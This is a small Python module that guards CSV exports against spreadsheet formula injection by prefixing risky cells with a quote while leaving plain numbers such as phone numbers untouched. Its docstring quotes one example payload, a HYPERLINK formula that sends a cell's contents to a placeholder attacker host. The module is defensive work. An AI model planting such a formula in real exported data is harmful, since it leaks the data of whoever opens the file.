"""Cell text made safe for spreadsheets (CSV formula injection, OWASP).

A spreadsheet program opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` as a
formula (and one starting with a tab or carriage return after it strips them): a contact named
`=HYPERLINK("http://evil/?"&A1)` would run in the exporting user's spreadsheet. Such a cell gets
a leading `'` (OWASP's advice), which the reader sees and the program never evaluates.

Plain numbers are left alone: `+15551234567` (every E.164 phone) and `-12.50` evaluate to
themselves, call nothing, and would otherwise all carry a stray quote.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def csv_safe(text: str) -> str:
    """`text` as a CSV cell no spreadsheet program evaluates."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
